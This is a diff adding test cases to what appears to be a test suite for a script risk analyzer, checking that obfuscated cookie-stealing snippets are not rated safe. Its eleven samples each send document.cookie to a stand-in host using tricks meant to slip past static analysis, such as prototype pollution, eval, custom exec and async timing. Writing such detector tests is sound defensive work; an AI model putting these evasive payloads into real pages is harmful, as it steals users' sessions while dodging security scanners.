@@ -136,3 +136,54 @@ describe("a secret in an address that the script puts together with text of the 
 		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
 	});
 });
+
+/** Values on ways that the model does not know: each reaches a function, a name or an address in a browser. */
+const BEYOND_THE_MODEL = [
+	[
+		"an exec of its own",
+		`const it = /a/; it.exec = () => ({ 0: fetch, index: 0 }); ("a".match(it)[0])("https://c.test/?c=" + document.cookie);`,
+	],
+	[
+		"an item of all lists",
+		`const it = [,]; Array.prototype[0] = fetch; (it[0])("https://c.test/?c=" + document.cookie);`,
+	],
+	[
+		"a field over an accessor",
+		`class A { get a() { return 1; } set a(to) {} } class B extends A { a = fetch; } (new B().a)("https://c.test/?c=" + document.cookie);`,
+	],
+	[
+		"a handler that focus calls",
+		`let got; const on = document.createElement("input"); document.body.append(on); on.onfocus = () => { got = "cookie"; }; on.focus(); fetch("https://c.test/?c=" + document[got]);`,
+	],
+	["text that eval writes", `let it = 1, to = "cookie"; eval("it = to"); fetch("https://c.test/?c=" + document[it]);`],
+	[
+		"the document out of a replacer",
+		`fetch("https://c.test/?c=" + ("a".replace({ [Symbol.replace]: () => document }, "b")).cookie);`,
+	],
+	[
+		"mapped arguments",
+		`function act(way) { arguments[0] = "https://c.test/?c="; fetch(way + document.cookie); } act("/a?c=");`,
+	],
+	[
+		"arguments that follow a parameter",
+		`function act(way) { way = document; fetch("https://c.test/?c=" + arguments[0].cookie); } act(1);`,
+	],
+	[
+		"a variable at a reaction",
+		`(function () { let it = "/a?c="; Promise.resolve().then(() => { fetch(it + document.cookie); }); it = "https://c.test/?c="; })();`,
+	],
+	[
+		"a variable after an await",
+		`(function () { let it = "/a?c="; (async () => { await 0; fetch(it + document.cookie); })(); it = "https://c.test/?c="; })();`,
+	],
+	[
+		"text that an own element gives back",
+		`const it = document.createElement("p"); it.append("https://c.test/?c="); fetch(document.createTreeWalker(it, 4).nextNode().data + document.cookie);`,
+	],
+] as const;
+
+describe("a theft on a way that the model does not know", () => {
+	test.each(BEYOND_THE_MODEL)("is not green: %s", (_title, code) => {
+		expect(["amber", "red"]).toContain(analyzeScript({ code }).risk_level);
+	});
+});
